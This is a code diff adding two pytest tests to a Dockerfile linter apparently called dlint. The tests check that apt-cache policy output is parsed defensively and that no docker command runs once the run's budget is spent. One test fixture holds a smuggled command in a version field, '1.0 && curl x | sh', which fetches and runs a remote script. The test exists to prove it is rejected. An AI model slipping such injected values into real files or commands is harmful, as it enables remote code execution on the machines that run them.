@@ -124,3 +124,37 @@ def test_from_engine_needs_unsafe_fixes(tmp_path: Path) -> None:
     assert done.stderr.decode() == (
         "dlint: error: --from-engine only feeds unsafe fixes; add --unsafe-fixes\n"
     )
+
+
+def test_apt_cache_policy_output_is_read_as_hostile() -> None:
+    """Installed and candidate versions; ``(none)`` and anything that is no Debian version
+    (it would be written into the Dockerfile) count as no version."""
+    from dlint.enginefacts import AptPolicy, parse_policy
+
+    output = (
+        "ca-certificates:\n  Installed: 20230311+deb12u1\n  Candidate: 20230311+deb12u1\n"
+        "  Version table:\n *** 20230311+deb12u1 100\n        100 /var/lib/dpkg/status\n"
+        "libgomp1:\n  Installed: (none)\n  Candidate: 1:12.2.0-14\n"
+        "evil:\n  Installed: 1.0 && curl x | sh\n  Candidate: 1.0\n"
+        "Bad Name:\n  Installed: 1.0\n"
+    )
+    assert parse_policy(output) == {
+        "ca-certificates": AptPolicy("20230311+deb12u1", "20230311+deb12u1"),
+        "libgomp1": AptPolicy(None, "1:12.2.0-14"),
+        "evil": AptPolicy(None, "1.0"),
+    }
+
+
+def test_a_spent_budget_asks_nothing(monkeypatch) -> None:
+    """Past the run's budget no docker command starts: the answer is simply none."""
+    import subprocess as real
+
+    from dlint.enginefacts import Engine
+
+    def refuse(*args, **kwargs):
+        raise AssertionError(f"docker ran: {args}")
+
+    monkeypatch.setattr(real, "run", refuse)
+    engine = Engine(budget=0)
+    assert engine.image("python:3.11-slim") is None
+    assert engine.apt_policy("python:3.11-slim", ["tzdata"]) == {}
